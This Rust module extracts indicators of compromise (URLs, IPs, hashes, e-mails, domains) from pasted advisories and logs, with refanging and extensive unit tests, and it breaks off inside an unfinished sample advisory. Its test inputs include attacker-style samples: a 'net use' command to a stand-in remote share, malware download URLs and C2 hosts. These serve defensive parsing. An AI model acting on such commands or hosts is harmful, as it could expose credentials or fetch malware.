//! Pull observables out of pasted text: an advisory, a phishing mail with
//! its headers, a web server log, an IDS alert, a sandbox report.
//!
//! The text is refanged once (keeping a map back to the original bytes), then
//! scanned in passes from the most specific shape to the least: URLs with a
//! scheme, e-mail addresses, IPv6, IPv4, hashes, and finally bare domains.
//! Each pass claims the bytes it matched so that later, looser passes don't
//! report the host of a URL or the domain of an address a second time.
//!
//! False positives cost analysts time, so the bare-domain pass is strict:
//! the TLD must be on the public suffix list, and `word.ext` with a TLD that
//! is also a common file extension (`archive.zip`, `run.sh`) is taken for a
//! file name. Writing the value defanged (`evil[.]zip`) overrides both
//! rules, because defanging is an analyst saying "this is an IOC".

use std::collections::HashSet;
use std::ops::Range;

use crate::defang::{refang, refang_mapped};
use crate::observable::{
    canonical_domain, canonicalize, has_known_tld, url_host_plausible, Kind, Observable,
};
use crate::url::{self, MAX_URL_LEN};

/// Longer input: only the first MAX_TEXT_LEN bytes are scanned (cut on a char boundary).
pub const MAX_TEXT_LEN: usize = 1 << 20;

/// One observable found in the text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Extracted {
    pub observable: Observable,
    /// byte range in the original text
    pub span: Range<usize>,
    /// the raw text as it appeared
    pub raw: String,
}

/// Pull every observable out of a pasted alert, e-mail or log excerpt. Deduplicated by observable, in order of first appearance.
pub fn extract(text: &str) -> Vec<Extracted> {
    let text = cut(text, MAX_TEXT_LEN);
    let mapped = refang_mapped(text);
    let mut scanner = Scanner {
        original: text,
        r: &mapped.text,
        origin: &mapped.origin,
        taken: vec![false; mapped.text.len()],
        found: Vec::new(),
    };
    scanner.urls();
    scanner.emails();
    scanner.ipv6();
    scanner.ipv4();
    scanner.hashes();
    scanner.domains();

    let mut found = std::mem::take(&mut scanner.found);
    found.sort_by_key(|f| f.start);
    let mut seen = HashSet::new();
    let mut out = Vec::new();
    for f in found {
        if !seen.insert(f.observable.clone()) {
            continue;
        }
        let span = scanner.origin_span(f.start, f.end);
        out.push(Extracted {
            raw: text[span.clone()].to_owned(),
            observable: f.observable,
            span,
        });
    }
    out
}

fn cut(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// TLDs that are also file extensions people paste: a bare two-label
/// `name.ext` with one of these is taken for a file name.
const FILE_EXT_TLDS: &[&str] = &[
    "zip",
    "mov",
    "py",
    "sh",
    "rs",
    "md",
    "pl",
    "pm",
    "so",
    "ps",
    "cab",
    "cat",
    "one",
    "pub",
    "java",
    "tf",
    "mk",
    "ml",
    "app",
    "mobi",
    "download",
    "properties",
    "map",
];

/// Extensions that give away a double-extension file name:
/// `invoice.pdf.zip` is a file even though it has three labels.
const COMMON_FILE_EXTS: &[&str] = &[
    "pdf", "doc", "docx", "docm", "xls", "xlsx", "xlsm", "ppt", "pptx", "rtf", "txt", "csv", "jpg",
    "jpeg", "png", "gif", "bmp", "exe", "scr", "dll", "js", "vbs", "hta", "lnk", "iso", "img",
    "tar", "gz", "7z", "rar", "html", "htm", "msi", "bat", "cmd", "ps1", "jar", "apk", "min",
];

struct Found {
    start: usize,
    end: usize,
    observable: Observable,
}

struct Scanner<'a> {
    original: &'a str,
    /// The refanged text; all positions below are in it.
    r: &'a str,
    origin: &'a [(u32, u32)],
    taken: Vec<bool>,
    found: Vec<Found>,
}

/// CJK scripts and their punctuation: Japanese text runs straight into IOCs
/// without spaces, so these end a token instead of joining it.
fn is_cjk(c: char) -> bool {
    matches!(c,
        '\u{2E80}'..='\u{9FFF}'
        | '\u{AC00}'..='\u{D7AF}'
        | '\u{F900}'..='\u{FAFF}'
        | '\u{FE30}'..='\u{FE4F}'
        | '\u{FF00}'..='\u{FFEF}'
        | '\u{20000}'..='\u{2FA1F}')
}

/// CJK punctuation and full-width forms: always a delimiter.
fn is_cjk_punct(c: char) -> bool {
    matches!(c, '\u{3000}'..='\u{303F}' | '\u{FE30}'..='\u{FE4F}' | '\u{FF00}'..='\u{FFEF}')
}

/// A character that glues onto a token (so the token isn't standalone):
/// letters and digits of alphabetic scripts, and '_'.
fn is_word_char(c: char) -> bool {
    c == '_' || (c.is_alphanumeric() && !is_cjk(c))
}

fn is_url_stop(c: char, in_host: bool) -> bool {
    if c.is_ascii() {
        return c.is_ascii_whitespace()
            || c.is_ascii_control()
            || matches!(
                c,
                '<' | '>' | '"' | '\'' | '`' | '{' | '}' | '|' | '\\' | '^'
            );
    }
    c.is_whitespace()
        || c.is_control()
        || ('\u{2000}'..='\u{206F}').contains(&c)
        || is_cjk_punct(c)
        || (is_cjk(c) && !in_host)
}

impl Scanner<'_> {
    fn bytes(&self) -> &[u8] {
        self.r.as_bytes()
    }

    fn origin_span(&self, start: usize, end: usize) -> Range<usize> {
        let s = self.origin[start].0 as usize;
        let e = self.origin[end - 1].1 as usize;
        s..e
    }

    /// Did the user write this stretch differently (defanged)?
    fn defanged(&self, start: usize, end: usize) -> bool {
        let span = self.origin_span(start, end);
        self.original.get(span) != self.r.get(start..end)
    }

    fn is_free(&self, start: usize, end: usize) -> bool {
        !self.taken[start..end].iter().any(|&t| t)
    }

    fn take(&mut self, start: usize, end: usize, observable: Observable) {
        // A rewrite that depended on text outside the span ("0.hxxp" is only
        // refanged because "://" follows) would make the reported raw text
        // mean something else on its own: skip such a candidate.
        let raw = self.original.get(self.origin_span(start, end));
        if raw.map(refang).as_deref() != self.r.get(start..end) {
            return;
        }
        for t in &mut self.taken[start..end] {
            *t = true;
        }
        self.found.push(Found {
            start,
            end,
            observable,
        });
    }

    fn char_before(&self, i: usize) -> Option<char> {
        self.r[..i].chars().next_back()
    }

    fn char_at(&self, i: usize) -> Option<char> {
        self.r[i..].chars().next()
    }

    /// Nothing word-like glued on either side of `start..end`.
    fn standalone(&self, start: usize, end: usize) -> bool {
        !self.char_before(start).is_some_and(is_word_char)
            && !self.char_at(end).is_some_and(is_word_char)
    }

    // ------------------------------------------------------------ URLs

    /// Where a URL starting at `from` (just after `://`, or at its host when
    /// written without a scheme) ends, and where a CJK character first
    /// appears in its host, if any.
    fn url_end(&self, from: usize) -> (usize, Option<usize>) {
        let mut in_host = true;
        let mut cjk_in_host = None;
        for (off, c) in self.r[from..].char_indices() {
            let i = from + off;
            if self.taken[i] || off > MAX_URL_LEN || is_url_stop(c, in_host) {
                return (i, cjk_in_host);
            }
            // Markdown "[text](url)": the link text ends at "](".
            if c == ']' && self.bytes().get(i + 1) == Some(&b'(') {
                return (i, cjk_in_host);
            }
            if matches!(c, '/' | '?' | '#') {
                in_host = false;
            } else if in_host && is_cjk(c) && cjk_in_host.is_none() {
                cjk_in_host = Some(i);
            }
        }
        (self.r.len(), cjk_in_host)
    }

    /// Drop trailing punctuation that belongs to the sentence, keeping a
    /// closing bracket that balances one inside the URL.
    fn trim_url(&self, start: usize, mut end: usize) -> usize {
        let b = self.bytes();
        while end > start {
            let text = &b[start..end];
            let count = |c: u8| text.iter().filter(|&&x| x == c).count();
            let drop = match b[end - 1] {
                b'.' | b',' | b';' | b':' | b'!' | b'?' | b'\'' | b'"' => true,
                b')' => count(b'(') < count(b')'),
                b']' => count(b'[') < count(b']'),
                _ => false,
            };
            if !drop {
                break;
            }
            end -= 1;
        }
        end
    }

    /// Canonicalize `start..end` as a URL whose host is believable.
    fn url_at(&self, start: usize, end: usize, need_known_tld: bool) -> Option<Observable> {
        let obs = canonicalize(Kind::Url, &self.r[start..end]).ok()?;
        let parts = url::split(&obs.value)?;
        let known = need_known_tld && !self.defanged(start, end);
        url_host_plausible(parts.host, known).then_some(obs)
    }

    /// A URL at `start` ending no later than `end`, retrying without the
    /// part of the host that ran into CJK text.
    fn url_candidate(
        &self,
        start: usize,
        host_start: usize,
        end: usize,
        cjk: Option<usize>,
        need_known_tld: bool,
    ) -> Option<(usize, Observable)> {
        let end = self.trim_url(start, end);
        if end <= host_start {
            return None;
        }
        if let Some(c) = cjk {
            if let Some(o) = self.url_at(start, end, true) {
                return Some((end, o));
            }
            let end = self.trim_url(start, c);
            if end <= host_start {
                return None;
            }
            return self.url_at(start, end, need_known_tld).map(|o| (end, o));
        }
        self.url_at(start, end, need_known_tld).map(|o| (end, o))
    }

    fn urls(&mut self) {
        let mut from = 0;
        let mut region_end = 0;
        let mut failures = 0;
        while let Some(off) = find(&self.bytes()[from..], b"://") {
            let p = from + off;
            from = p + 3;
            if self.taken[p] {
                continue;
            }
            let b = self.bytes();
            let mut s = p;
            while s > 0 && b[s - 1].is_ascii_alphanumeric() {
                s -= 1;
            }
            while s < p && !b[s].is_ascii_alphabetic() {
                s += 1;
            }
            if !(2..=16).contains(&(p - s)) || self.char_before(s).is_some_and(is_word_char) {
                continue;
            }
            let (end, cjk) = self.url_end(p + 3);
            // Bound the work on pathological text such as "a://a://a://...".
            if p < region_end {
                if failures > 4 {
                    continue;
                }
            } else {
                region_end = end;
                failures = 0;
            }
            match self.url_candidate(s, p + 3, end, cjk, false) {
                Some((end, obs)) => self.take(s, end, obs),
                None => failures += 1,
            }
        }
    }

    /// A domain or address at `start..host_end` followed by `/path`:
    /// report it as a URL without a scheme.
    fn bare_url(&self, start: usize, host_end: usize) -> Option<(usize, Observable)> {
        let b = self.bytes();
        let host_is_ip = b[start..host_end]
            .iter()
            .all(|c| c.is_ascii_digit() || *c == b'.');
        let mut i = host_end;
        if b.get(i) == Some(&b':') {
            i += 1;
            let digits = b[i..].iter().take_while(|c| c.is_ascii_digit()).count();
            if digits == 0 || digits > 5 {
                return None;
            }
            i += digits;
        }
        if b.get(i) != Some(&b'/') {
            return None;
        }
        let (end, _) = self.url_end(start);
        let end = self.trim_url(start, end);
        // Just "host/" says nothing more than the host, and "ip/33" is a
        // broken CIDR rather than a page.
        if end <= i + 1 || (host_is_ip && b[i + 1..end].iter().all(u8::is_ascii_digit)) {
            return None;
        }
        self.url_at(start, end, true).map(|o| (end, o))
    }

    // ------------------------------------------------------------ e-mail

    fn emails(&mut self) {
        let is_local =
            |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'%' | b'+' | b'-');
        let is_domain = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-');
        let mut at_positions = Vec::new();
        for (i, &c) in self.bytes().iter().enumerate() {
            if c == b'@' {
                at_positions.push(i);
            }
        }
        for at in at_positions {
            if self.taken[at] {
                continue;
            }
            let b = self.bytes();
            let mut ls = at;
            while ls > 0 && at - ls <= 64 && is_local(b[ls - 1]) {
                ls -= 1;
            }
            while ls < at && b[ls] == b'.' {
                ls += 1;
            }
            if ls == at || at - ls > 64 {
                continue;
            }
            let mut de = at + 1;
            while de < b.len() && de - at <= 254 && is_domain(b[de]) {
                de += 1;
            }
            while de > at + 1 && matches!(b[de - 1], b'.' | b'-' | b'_') {
                de -= 1;
            }
            if de == at + 1 || !self.standalone(ls, de) || b.get(de) == Some(&b'@') {
                continue;
            }
            if !self.is_free(ls, de) {
                continue;
            }
            let Ok(obs) = canonicalize(Kind::Email, &self.r[ls..de]) else {
                continue;
            };
            let domain = obs.value.rsplit('@').next().unwrap_or_default();
            if has_known_tld(domain) || self.defanged(ls, de) {
                self.take(ls, de, obs);
            }
        }
    }

    // ------------------------------------------------------------ IPv6

    fn ipv6(&mut self) {
        let is_v6 = |c: u8| c.is_ascii_hexdigit() || c == b':' || c == b'.';
        let len = self.r.len();
        let mut i = 0;
        while i < len {
            if !is_v6(self.bytes()[i]) {
                i += 1;
                continue;
            }
            let start = i;
            while i < len && is_v6(self.bytes()[i]) {
                i += 1;
            }
            let end = i;
            if end - start > 60 || !self.standalone(start, end) {
                continue;
            }
            let run = &self.r[start..end];
            if run.matches(':').count() < 2 {
                continue;
            }
            // The run may have swallowed the sentence's full stop or colon.
            let mut tries = vec![end];
            let no_dots = start + run.trim_end_matches('.').len();
            if no_dots != end {
                tries.push(no_dots);
            }
            if run.ends_with(':') && !run.ends_with("::") {
                tries.push(end - 1);
            }
            for e in tries {
                let Ok(addr) = self.r[start..e].parse::<std::net::Ipv6Addr>() else {
                    continue;
                };
                if addr.is_unspecified() {
                    break;
                }
                let e = if e == end {
                    self.cidr_suffix(end, 128)
                } else {
                    e
                };
                if !self.is_free(start, e) {
                    break;
                }
                if let Ok(obs) = canonicalize(Kind::Ipv6, &self.r[start..e]) {
                    self.take(start, e, obs);
                }
                break;
            }
        }
    }

    /// If `/n` (n <= max) follows at `end` as a standalone number, the end
    /// of it; otherwise `end`.
    fn cidr_suffix(&self, end: usize, max: u32) -> usize {
        let b = self.bytes();
        if b.get(end) != Some(&b'/') {
            return end;
        }
        let digits = b[end + 1..]
            .iter()
            .take_while(|c| c.is_ascii_digit())
            .count();
        if digits == 0 || digits > 3 {
            return end;
        }
        let after = end + 1 + digits;
        let value: u32 = self.r[end + 1..after].parse().unwrap_or(u32::MAX);
        let glued = match b.get(after) {
            None => false,
            Some(&c) => {
                c.is_ascii_alphanumeric()
                    || c == b'_'
                    || c == b'/'
                    || (c == b'.' && b.get(after + 1).is_some_and(u8::is_ascii_digit))
            }
        };
        if value <= max && !glued {
            after
        } else {
            end
        }
    }

    // ------------------------------------------------------------ IPv4

    fn ipv4(&mut self) {
        let is_v4 = |c: u8| c.is_ascii_digit() || c == b'.';
        let len = self.r.len();
        let mut i = 0;
        while i < len {
            if !is_v4(self.bytes()[i]) {
                i += 1;
                continue;
            }
            let run_start = i;
            while i < len && is_v4(self.bytes()[i]) {
                i += 1;
            }
            let run_end = i;
            if !self.standalone(run_start, run_end) {
                continue;
            }
            let run = &self.r[run_start..run_end];
            let start = run_start + (run.len() - run.trim_start_matches('.').len());
            let end = start + run.trim_matches('.').len();
            if start >= end || !is_plain_quad(&self.r[start..end]) {
                continue;
            }
            if !self.is_free(start, end) {
                continue;
            }
            let cidr_end = self.cidr_suffix(end, 32);
            // A suffix an earlier pass claimed (`1.2.3.4/8::0` has IPv6
            // `8::0`) is not this address's prefix length.
            if cidr_end != end && self.is_free(start, cidr_end) {
                if let Ok(obs) = canonicalize(Kind::Ipv4, &self.r[start..cidr_end]) {
                    self.take(start, cidr_end, obs);
                }
                continue;
            }
            if let Some((url_end, obs)) = self.bare_url(start, end) {
                if self.is_free(start, url_end) {
                    self.take(start, url_end, obs);
                    continue;
                }
            }
            if let Ok(obs) = canonicalize(Kind::Ipv4, &self.r[start..end]) {
                self.take(start, end, obs);
            }
        }
    }

    // ------------------------------------------------------------ hashes

    fn hashes(&mut self) {
        let len = self.r.len();
        let mut i = 0;
        while i < len {
            if !self.bytes()[i].is_ascii_hexdigit() {
                i += 1;
                continue;
            }
            let start = i;
            while i < len && self.bytes()[i].is_ascii_hexdigit() {
                i += 1;
            }
            let end = i;
            let kind = match end - start {
                32 => Kind::Md5,
                40 => Kind::Sha1,
                64 => Kind::Sha256,
                _ => continue,
            };
            let run = &self.bytes()[start..end];
            // Real digests mix digits and letters; a 32-digit number or a
            // 32-letter word made of a-f is something else.
            let digits = run.iter().any(u8::is_ascii_digit);
            let letters = run.iter().any(u8::is_ascii_alphabetic);
            if !digits || !letters || !self.standalone(start, end) || !self.is_free(start, end) {
                continue;
            }
            if let Ok(obs) = canonicalize(kind, &self.r[start..end]) {
                self.take(start, end, obs);
            }
        }
    }

    // ------------------------------------------------------------ domains

    fn domains(&mut self) {
        let is_dom = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_');
        let len = self.r.len();
        let mut i = 0;
        while i < len {
            if !is_dom(self.bytes()[i]) || self.taken[i] {
                i += 1;
                continue;
            }
            let run_start = i;
            while i < len && is_dom(self.bytes()[i]) && !self.taken[i] {
                i += 1;
            }
            let run_end = i;
            if let Some((start, end, obs)) = self.domain_in_run(run_start, run_end) {
                match self.bare_url(start, end) {
                    Some((url_end, url)) if self.is_free(start, url_end) => {
                        self.take(start, url_end, url);
                    }
                    _ => self.take(start, end, obs),
                }
            }
        }
    }

    fn domain_in_run(
        &self,
        run_start: usize,
        run_end: usize,
    ) -> Option<(usize, usize, Observable)> {
        // Part of a path, an e-mail we refused, or a longer word. A UNC
        // host (\\evil.example\share) is a host, though.
        let before = self.char_before(run_start);
        let after = self.char_at(run_end);
        let head = &self.r[..run_start];
        let unc = head.ends_with("\\\\")
            && !head[..head.len() - 2]
                .chars()
                .next_back()
                .is_some_and(|c| c == '\\' || is_word_char(c));
        if (!unc && matches!(before, Some('/' | '\\')))
            || matches!(before, Some('@' | '%' | '$' | '&' | '='))
            || (!unc && after == Some('\\'))
            || (!unc && after == Some('@'))
            || before.is_some_and(is_word_char)
            || after.is_some_and(is_word_char)
        {
            return None;
        }
        let run = &self.r[run_start..run_end];
        let trim = |c: char| matches!(c, '.' | '-' | '_');
        let start = run_start + (run.len() - run.trim_start_matches(trim).len());
        let end = start + run.trim_matches(trim).len();
        if start >= end || end - start > 253 {
            return None;
        }
        let cand = &self.r[start..end];
        if !cand.contains('.') {
            return None;
        }
        let domain = canonical_domain(cand).ok()?;
        let strict = !self.defanged(start, end);
        if strict && (!has_known_tld(&domain) || looks_like_file(&domain) || capitalized_tld(cand))
        {
            return None;
        }
        Some((
            start,
            end,
            Observable {
                kind: Kind::Domain,
                value: domain,
            },
        ))
    }
}

/// `a.b.c.d`, each part 1-3 digits without a leading zero, each <= 255.
/// Zero-padded quads are ambiguous (octal to inet_aton, decimal to people),
/// so free text never yields them.
fn is_plain_quad(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|p| {
            (1..=3).contains(&p.len())
                && p.bytes().all(|b| b.is_ascii_digit())
                && !(p.len() > 1 && p.starts_with('0'))
                && p.parse::<u16>().is_ok_and(|v| v <= 255)
        })
}

fn looks_like_file(domain: &str) -> bool {
    let labels: Vec<&str> = domain.split('.').collect();
    let n = labels.len();
    let tld = labels[n - 1];
    FILE_EXT_TLDS.contains(&tld) && (n == 2 || COMMON_FILE_EXTS.contains(&labels[n - 2]))
}

/// "report.It was", "ADODB.Stream": a TLD written Capitalized is the start
/// of a sentence or a class name, not a host.
fn capitalized_tld(cand: &str) -> bool {
    let tld = cand.rsplit('.').next().unwrap_or_default();
    let mut chars = tld.chars();
    chars.next().is_some_and(|c| c.is_ascii_uppercase())
        && tld.len() > 1
        && chars.all(|c| c.is_ascii_lowercase())
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(text: &str) -> Vec<(Kind, String)> {
        extract(text)
            .into_iter()
            .map(|e| (e.observable.kind, e.observable.value))
            .collect()
    }

    fn expect(text: &str, want: &[(Kind, &str)]) {
        let got = found(text);
        let want: Vec<(Kind, String)> = want.iter().map(|(k, v)| (*k, v.to_string())).collect();
        assert_eq!(got, want, "extract({text:?})");
    }

    use Kind::*;

    /// Found by fuzzing: the IPv6 pass claimed `8::0`, then the IPv4 pass
    /// took `/8` of the same bytes as its prefix length, so two extracted
    /// values shared a byte.
    #[test]
    fn a_claimed_cidr_suffix_is_not_taken_twice() {
        let got = extract("1.3.3.4/8::0");
        for pair in got.windows(2) {
            assert!(pair[0].span.end <= pair[1].span.start, "{got:?}");
        }
        assert!(
            got.iter().all(|e| e.observable.value != "1.0.0.0/8"),
            "{got:?}"
        );
    }

    #[test]
    fn single_items() {
        let cases: &[(&str, &[(Kind, &str)])] = &[
            (
                "see http://evil.example/a.php now",
                &[(Url, "http://evil.example/a.php")],
            ),
            (
                "hxxp[:]//evil[.]example/x",
                &[(Url, "http://evil.example/x")],
            ),
            (
                "hxxps://evil[.]co[.]jp/login",
                &[(Url, "https://evil.co.jp/login")],
            ),
            ("(http://evil.example/a)", &[(Url, "http://evil.example/a")]),
            (
                "http://evil.example/a_(b).",
                &[(Url, "http://evil.example/a_(b)")],
            ),
            ("'http://evil.example/'", &[(Url, "http://evil.example/")]),
            ("<http://evil.example/x>", &[(Url, "http://evil.example/x")]),
            (
                "go to http://evil.example/x, then",
                &[(Url, "http://evil.example/x")],
            ),
            ("http://evil.example/x?", &[(Url, "http://evil.example/x")]),
            (
                "http://user@evil.example:8080/x",
                &[(Url, "http://evil.example/x")],
            ),
            (
                "url=http://[2001:db8::1]:80/a",
                &[(Url, "http://[2001:db8::1]/a")],
            ),
            ("http://localhost/x", &[]),
            ("evil.com", &[(Domain, "evil.com")]),
            ("Evil.COM.", &[(Domain, "evil.com")]),
            ("evil[.]example", &[(Domain, "evil.example")]),
            ("evil[.]zip", &[(Domain, "evil.zip")]),
            ("www.evil.zip", &[(Domain, "www.evil.zip")]),
            // Special-use TLDs are recognised (exercises and documentation use them).
            ("evil.example", &[(Domain, "evil.example")]),
            ("corp.internal", &[(Domain, "corp.internal")]),
            ("printer.local", &[]),
            ("evil.com/gate.php", &[(Url, "http://evil.com/gate.php")]),
            ("evil[.]com/gate.php", &[(Url, "http://evil.com/gate.php")]),
            ("evil.com:8443/x", &[(Url, "http://evil.com/x")]),
            ("evil.com/", &[(Domain, "evil.com")]),
            ("1.2.3.4", &[(Ipv4, "1.2.3.4")]),
            ("1.2.3[.]4", &[(Ipv4, "1.2.3.4")]),
            ("1[.]2[.]3[.]4", &[(Ipv4, "1.2.3.4")]),
            ("10.1.2.3/8", &[(Ipv4, "10.0.0.0/8")]),
            ("10.0.0.0/8.", &[(Ipv4, "10.0.0.0/8")]),
            ("1.2.3.4/32", &[(Ipv4, "1.2.3.4")]),
            ("1.2.3.4:443", &[(Ipv4, "1.2.3.4")]),
            ("1.2.3.4.", &[(Ipv4, "1.2.3.4")]),
            ("192.0.2.1/gate.php", &[(Url, "http://192.0.2.1/gate.php")]),
            ("2001:db8::1", &[(Ipv6, "2001:db8::1")]),
            (
                "2001:0db8:0000:0000:0000:ff00:0042:8329",
                &[(Ipv6, "2001:db8::ff00:42:8329")],
            ),
            ("[2001:db8::1]:443", &[(Ipv6, "2001:db8::1")]),
            ("2001:db8::/32", &[(Ipv6, "2001:db8::/32")]),
            ("addr 2001:db8::1.", &[(Ipv6, "2001:db8::1")]),
            ("addr 2001:db8::1:", &[(Ipv6, "2001:db8::1")]),
            ("fe80::1%eth0", &[(Ipv6, "fe80::1")]),
            ("::ffff:192.0.2.1", &[(Ipv6, "::ffff:192.0.2.1")]),
            (
                "44d88612fea8a8f36de82e1278abb02f",
                &[(Md5, "44d88612fea8a8f36de82e1278abb02f")],
            ),
            (
                "SHA1=3395856CE81F2B7382DEE72602F798B642F14140",
                &[(Sha1, "3395856ce81f2b7382dee72602f798b642f14140")],
            ),
            (
                "sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                &[(
                    Sha256,
                    "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
                )],
            ),
            ("user@evil.com", &[(Email, "user@evil.com")]),
            ("User@Evil.COM", &[(Email, "user@evil.com")]),
            ("user[@]evil[.]example", &[(Email, "user@evil.example")]),
            ("user[at]evil[dot]example", &[(Email, "user@evil.example")]),
            ("mailto:user@evil.com", &[(Email, "user@evil.com")]),
            (
                "<first.last@sub.evil.co.uk>",
                &[(Email, "first.last@sub.evil.co.uk")],
            ),
            ("root@localhost", &[]),
            ("user@corp.local", &[]),
            ("連絡先user@evil.co.jpまで", &[(Email, "user@evil.co.jp")]),
            ("通信先203.0.113.45へ", &[(Ipv4, "203.0.113.45")]),
            ("接続先evil.co.jpへ", &[(Domain, "evil.co.jp")]),
            (
                "http://例え.jp/にアクセス",
                &[(Url, "http://xn--r8jz45g.jp/")],
            ),
            (
                "http://evil.co.jpにアクセス",
                &[(Url, "http://evil.co.jp/")],
            ),
            (
                "hxxp://evil[.]co[.]jp/a.exeをダウンロード",
                &[(Url, "http://evil.co.jp/a.exe")],
            ),
            ("“http://evil.example/x”", &[(Url, "http://evil.example/x")]),
            (
                "[https://evil.example/x](https://evil.example/x)",
                &[(Url, "https://evil.example/x")],
            ),
            (
                "[link](https://evil.example/a_(b))",
                &[(Url, "https://evil.example/a_(b)")],
            ),
            ("172.16.0.0/33", &[(Ipv4, "172.16.0.0")]),
            ("1.2.3.4/", &[(Ipv4, "1.2.3.4")]),
            ("127.0.0.1:8080/admin", &[(Url, "http://127.0.0.1/admin")]),
            (
                "10.0.0.1-10.0.0.5",
                &[(Ipv4, "10.0.0.1"), (Ipv4, "10.0.0.5")],
            ),
            (
                "jdbc:mysql://db.evil.com:3306/x",
                &[(Url, "mysql://db.evil.com/x")],
            ),
            (
                "ftp://anonymous@files.evil.com/pub/x.bin",
                &[(Url, "ftp://files.evil.com/pub/x.bin")],
            ),
            (
                "net use \\\\files.evil.com\\share",
                &[(Domain, "files.evil.com")],
            ),
            (
                "\\\\files.evil.com@SSL\\DavWWWRoot",
                &[(Domain, "files.evil.com")],
            ),
            ("C:\\Users\\files.evil.com\\x", &[]),
            ("www.evil.com\\path", &[]),
            (
                "http://evil.com/?q=a@b.com",
                &[(Url, "http://evil.com/?q=a@b.com")],
            ),
            (
                "Visit example.com. Or see google.com;",
                &[(Domain, "example.com"), (Domain, "google.com")],
            ),
        ];
        for (text, want) in cases {
            expect(text, want);
        }
    }

    #[test]
    fn no_false_positives() {
        let texts = [
            "version 1.2.3 and v10.0.19041 and 2.4.1-beta",
            "files: invoice.pdf setup.exe report.docx archive.zip movie.mov",
            "scripts: script.py run.sh main.rs notes.md",
            "double extension invoice.pdf.zip",
            "on 2026.11.22 at 12:30:45",
            "pi is 3.14 and e is 2.718",
            "bad ip 300.1.2.3 and 1.2.3.256 and 1.2.3",
            "hex 44d88612fea8a8f36de82e1278abb0 and 44d88612fea8a8f36de82e1278abb02f00",
            "C:\\Windows\\system32\\cmd.exe and C:\\Users\\a\\evil.sh",
            "/usr/local/bin/run.sh /tmp/payload.zip ./x.py",
            "MAC 00:1a:2b:3c:4d:5e and time 12:30",
            "std::vector and Foo::Bar::baz",
            "CreateObject(\"WScript.Shell\") ADODB.Stream Scripting.FileSystemObject",
            "the report.It was bad",
            "e.g. i.e. U.S. a.m. No.1 Fig.3",
            "zero padded 010.001.002.003",
            "12345678901234567890123456789012",
            "abcdefabcdefabcdefabcdefabcdefab",
            "GUID 3f2504e0-4f89-11d3-9a0c-0305e82c3301",
            "Mozilla/5.0 Chrome/120.0.6099.109 Safari/537.36",
            "::",
            "a://b",
            "version 1.2.3.4.5",
            "mailto:",
            "@@@ ... :: // [.] (at)",
        ];
        for t in texts {
            expect(t, &[]);
        }
    }

    #[test]
    fn raw_text_means_the_same_on_its_own() {
        // "0.hxxp" is refanged only because "://" follows it; reporting the
        // domain "0.http" with raw "0.hxxp" would be a lie. (Found by proptest.)
        let text = "hxxp://]/?0.hxxp://.";
        for e in extract(text) {
            assert_eq!(canonicalize(e.observable.kind, &e.raw), Ok(e.observable));
        }
        expect(text, &[]);
    }

    #[test]
    fn spans_and_raw_point_into_the_original() {
        let text = "IOC: hxxp[:]//evil[.]example/a and 198[.]51[.]100[.]7!";
        let got = extract(text);
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].raw, "hxxp[:]//evil[.]example/a");
        assert_eq!(&text[got[0].span.clone()], got[0].raw);
        assert_eq!(got[0].observable.value, "http://evil.example/a");
        assert_eq!(got[1].raw, "198[.]51[.]100[.]7");
        assert_eq!(got[1].span, 35..53);
        assert_eq!(got[1].observable.value, "198.51.100.7");
    }

    #[test]
    fn deduplicated_in_order_of_first_appearance() {
        expect(
            "b.com a.com B.COM 1.2.3.4 a.com 1.2.3[.]4",
            &[(Domain, "b.com"), (Domain, "a.com"), (Ipv4, "1.2.3.4")],
        );
        let got = extract("x evil.com y evil[.]com");
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].raw, "evil.com");
    }

    #[test]
    fn hosts_inside_urls_and_emails_are_not_repeated() {
        expect(
            "http://evil.com/a and user@mail.evil.net",
            &[(Url, "http://evil.com/a"), (Email, "user@mail.evil.net")],
        );
        expect(
            "http://1.2.3.4/x 44d88612fea8a8f36de82e1278abb02f",
            &[
                (Url, "http://1.2.3.4/x"),
                (Md5, "44d88612fea8a8f36de82e1278abb02f"),
            ],
        );
        expect(
            "http://evil.com/dl/44d88612fea8a8f36de82e1278abb02f",
            &[(Url, "http://evil.com/dl/44d88612fea8a8f36de82e1278abb02f")],
        );
        // ...but a separate mention of the same host is reported.
        expect(
            "http://evil.com/a then evil.com",
            &[(Url, "http://evil.com/a"), (Domain, "evil.com")],
        );
    }

    #[test]
    fn long_input_is_cut_on_a_char_boundary() {
        let mut text = "a".repeat(MAX_TEXT_LEN - 1);
        text.push('日');
        text.push_str(" evil.com");
        assert!(extract(&text).is_empty());
        assert_eq!(cut(&text, MAX_TEXT_LEN).len(), MAX_TEXT_LEN - 1);
        let text = format!("evil.com {}", "x ".repeat(MAX_TEXT_LEN));
        assert_eq!(found(&text), vec![(Domain, "evil.com".to_string())]);
    }

    #[test]
    fn pathological_input_is_fast_enough() {
        let text = "a://".repeat(20_000);
        let start = std::time::Instant::now();
        assert!(extract(&text).is_empty());
        let text = "[[[[.]]]]".repeat(10_000) + &"1.".repeat(20_000) + &"a.".repeat(20_000);
        let _ = extract(&text);
        assert!(start.elapsed().as_secs() < 20);
    }

    const JPCERT_ADVISORY: &str = "\
JPCERT/CC 注意喚起
2026年11月22日

■概要
攻撃者は、hxxps://update-check[.]co[.]jp/download/setup.exe から不正なプログラムをダウンロードさせます。
バージョン 1.2.3 の製品が影響を受けます。

■IOC
接続先: 203.0.113[.]45、198[.]51[.]100[.]7
C2: evil-c2[.]example（ポート 443/tcp）
送信元: attacker[@]phish[.]example
ファイル名: 請求書.zip (SHA-256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)
